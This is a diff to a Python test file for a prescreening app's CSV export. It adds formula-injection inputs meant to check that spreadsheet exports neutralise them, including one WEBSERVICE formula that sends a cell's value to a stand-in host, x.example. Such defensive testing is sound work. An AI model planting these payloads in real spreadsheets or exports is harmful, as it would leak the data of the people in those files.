@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from fractions import Fraction
@@ -19,7 +20,7 @@ from prescreen.eligibility.criteria.trials import Trial
 from prescreen.export.columns.table import HEADER, chosen
 from prescreen.export.formats import Source, chunks
 from prescreen.storage.base.keys import Keys
-from prescreen.storage.export.csv_copy import FORMULA_STARTS
+from prescreen.storage.export.csv_copy import FORMULA_SIGNS, FORMULA_STARTS, SEPARATORS, SKIPPED
 from prescreen.storage.participants.consents import GivenBy, Purpose, StoredConsent
 from prescreen.storage.referrals.referrals import State, StoredReferral
 from prescreen.storage.tables import Consent, Lead, Referral, ReferralTag
@@ -44,6 +45,18 @@ HOSTILE = (
     '"',
     "+1 617 555 0100",
     "_x0041_ & <b>",
+    *(f"Zed{separator}=1+1{separator}" for separator in SEPARATORS),
+    *(f"Zed; {sign}1+1;" for sign in FORMULA_SIGNS),
+    'a;=WEBSERVICE("http://x.example/"&B2);',
+    'b;"=1+1";',
+    'c;""=1+1"";',
+    ';"=1+1',
+    ";;=1+1",
+    "d,\t \u00a0=1+1\t",
+    "'=1+1",
+    "e;'=1+1;",
+    "f; '=1+1;",
+    '"=1+1;',
 )
 
 REFERRAL = StoredReferral(
@@ -84,6 +97,12 @@ ROW = ReferralRow(
     tags=("call after six", "Spanish"),
 )
 WITHDRAWN = replace(ROW, referral=replace(REFERRAL, state=State.WITHDRAWN, determination=None, withdrawn_at=LATER))
+
+
+def as_typed(cell: str) -> str:
+    """Return a text as it was before the export guarded it, by the rule that `docs/desk.md` gives to programs."""
+    text = re.sub(f"^'(?='*[{SKIPPED}]*[{FORMULA_STARTS}])", "", cell)
+    return re.sub(f"([{SEPARATORS}])'(?='*[{SKIPPED}]*[{FORMULA_SIGNS}])", r"\1", text)
 
 
 def wanted(form: Format = Format.CSV, **changes: Any) -> Wanted:
